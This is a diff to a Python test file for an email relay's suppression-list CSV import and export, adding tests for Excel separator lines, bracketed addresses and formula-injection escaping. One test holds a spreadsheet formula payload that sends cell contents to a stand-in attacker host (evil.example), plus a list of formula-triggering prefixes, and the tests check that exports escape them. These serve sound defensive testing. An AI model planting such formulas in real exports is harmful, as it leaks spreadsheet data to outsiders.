@@ -100,6 +100,52 @@ def test_exports_of_other_senders_are_understood(text: str, expected: tuple[str,
     assert (found.scope, found.reason, found.evidence, found.created_at.isoformat()[:19]) == expected
 
 
+@pytest.mark.parametrize("separator", [";", ",", "\t", "|"])
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
+def test_the_line_that_names_excels_separator_is_no_record(relay: Waypost, separator: str, encoding: str) -> None:
+    who = f"excel{ord(separator)}-{encoding}@example.net"
+    rows = (f"sep={separator}", separator.join(("email", "reason")), separator.join((who, "hard_bounce")))
+    said = relay.cli("suppressions", "import", "-", given="".join(f"{row}\r\n" for row in rows).encode(encoding))
+    assert said == b"added 1, known 0, refused 0\n"
+    [row] = relay.rows("suppressions", "list", who)
+    assert (row["address"], row["reason"]) == (who, "hard_bounce")
+
+
+def test_a_separator_may_be_named_without_columns() -> None:
+    [found] = lists.read(io.StringIO("\ufeffsep=;\nann@example.com;x,y\n"), DEFAULTS)
+    assert isinstance(found, Entry) and found.address == "ann@example.com"
+
+
+def test_addresses_in_brackets_are_taken() -> None:
+    text = 'email\n<ann@example.net>\n"""Ann A"" <ben@example.net>"\nAnn <>\nAnn <a@example.net> <b@example.net>\n'
+    found = list(lists.read(io.StringIO(text), DEFAULTS))
+    assert [one.address for one in found if isinstance(one, Entry)] == ["ann@example.net", "ben@example.net"]
+    assert [one.line for one in found if isinstance(one, Refusal)] == [4, 5]
+
+
+_FORMULAS = ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "x;=1", "x\n=1", "x\r@1", "'=1", "''-1")
+
+
+def test_no_cell_of_an_export_is_a_formula(relay: Waypost) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"ann@example.com")'
+    relay.cli("suppressions", "add", "+formula@cells.example", "--evidence", formula)
+    exported = relay.cli("suppressions", "export").decode()
+    [row] = [row for row in csv.DictReader(io.StringIO(exported)) if "formula@" in row["address"]]
+    assert (row["address"], row["evidence"]) == ("'+formula@cells.example", f"'{formula}")
+    relay.cli("suppressions", "remove", "+formula@cells.example")
+    relay.cli("suppressions", "import", "-", given=exported.encode())
+    [again] = relay.rows("suppressions", "list", "formula@cells.example")
+    assert (again["address"], again["evidence"]) == ("+formula@cells.example", formula)
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+@given(st.lists(st.sampled_from((*_FORMULAS, "x", ";", ",", '"', "'", " ")), max_size=6).map("".join))
+def test_whatever_separates_cells_none_begins_a_formula(delimiter: str, evidence: str) -> None:
+    text = lists.write([entry("ann@example.com", evidence=evidence)], header=False)
+    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
+        assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
 def test_a_quote_that_is_never_closed_swallows_nothing() -> None:
     text = "address\n" + '"open@example.com\n' + "".join(f"{n}@example.com\n" for n in range(200))
     found = list(lists.read(io.StringIO(text), DEFAULTS))
@@ -124,12 +170,16 @@ _TIMES = st.datetimes(datetime(2000, 1, 1), datetime(2100, 1, 1), timezones=st.j
 
 
 @given(
-    _STREAMS, st.sampled_from(suppressions.REASONS), st.text(st.characters(codec="utf-8")), _TIMES, st.none() | _TIMES
+    _STREAMS,
+    st.sampled_from(suppressions.REASONS),
+    st.text(st.characters(codec="utf-8")) | st.text("';=+-@\t\n x\""),
+    _TIMES,
+    st.none() | _TIMES,
 )
 def test_an_entry_that_is_written_is_read_as_it_was(
     where: tuple[str, str], reason: str, evidence: str, created_at: datetime, expires_at: datetime | None
 ) -> None:
-    evidence = " ".join(evidence.replace("\0", "").split())
+    evidence = evidence.replace("\0", "").replace("\r", "").strip()
     one = Entry("ann@example.com", *where, reason, evidence, created_at, expires_at)
     assert list(lists.read(io.StringIO(lists.write([one], header=True)), DEFAULTS)) == [one]
 
